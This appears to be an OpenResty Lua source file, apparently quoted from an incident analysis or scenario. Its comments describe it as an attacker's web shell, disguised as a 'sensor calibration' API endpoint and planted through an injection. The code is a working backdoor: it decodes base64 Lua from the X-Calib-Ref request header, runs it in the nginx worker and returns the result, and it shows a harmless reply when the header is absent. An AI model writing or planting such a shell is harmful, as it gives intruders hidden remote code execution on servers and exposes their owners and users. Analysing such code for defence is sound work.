-- /api/calib: "sensor calibration" (the attacker's Lua web shell, written
-- into the API folder through the chart's injection). The X-Calib-Ref header
-- is base64 Lua, run in the nginx worker; its return value is the answer.
local h = ngx.req.get_headers()["X-Calib-Ref"]
if not h then
  ngx.say('{"calibration":"ok"}')
  return
end
local f, err = loadstring(ngx.decode_base64(h) or "")
if not f then
  ngx.say(err)
  return
end
local ok, out = pcall(f)
ngx.say(tostring(out))
